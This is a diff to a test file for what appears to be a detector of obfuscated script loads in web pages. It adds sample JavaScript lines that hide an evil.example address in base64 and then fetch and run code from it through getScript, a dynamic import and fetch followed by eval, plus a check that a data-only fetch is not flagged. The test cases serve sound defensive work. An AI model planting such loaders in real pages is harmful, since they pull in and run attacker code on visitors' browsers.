@@ -75,6 +75,14 @@ def packed(text: str) -> str:
         (f"var u=String.fromCharCode({codes('https://evil.example/n.js')});var s=document."
          "createElement('script');s.src=u;document.head.appendChild(s);",
          "https://evil.example/n.js", RequestType.SCRIPT),
+        # a hidden address handed to what fetches and runs a script: jQuery's getScript,
+        # a dynamic import, fetch whose answer is evaluated
+        (f"jQuery.getScript(atob('{b64('https://evil.example/g.js')}'));",
+         "https://evil.example/g.js", RequestType.SCRIPT),
+        (f"import(atob('{b64('https://evil.example/m.js')}'));",
+         "https://evil.example/m.js", RequestType.SCRIPT),
+        (f"fetch(atob('{b64('https://evil.example/f.js')}')).then(r=>r.text()).then(eval);",
+         "https://evil.example/f.js", RequestType.SCRIPT),
         # two layers: base64 inside char codes
         (f"eval(String.fromCharCode({codes(f'eval(atob({chr(39)}{b64(LOADER)}{chr(39)}))')}))",
          "https://evil.example/x.js", RequestType.SCRIPT),
@@ -551,3 +559,10 @@ def test_an_inert_payload_the_page_then_runs_or_loads_stays(audit_html: AuditHtm
                         url="https://news.example/a")
     assert [f.severity.value for f in report.findings
             if f.kind == "obfuscated-script"] == ["medium"]
+
+
+def test_a_hidden_address_fetched_for_data_is_no_script_load() -> None:
+    """fetch of a base64 address whose answer is read as JSON loads no code."""
+    decoded = decode_script(f"fetch(atob('{b64('https://api.example/v1/cfg')}')).then(r=>"
+                            "r.json()).then(c=>init(c));")
+    assert not [u for u in decoded.urls if u.loaded and u.type is RequestType.SCRIPT]
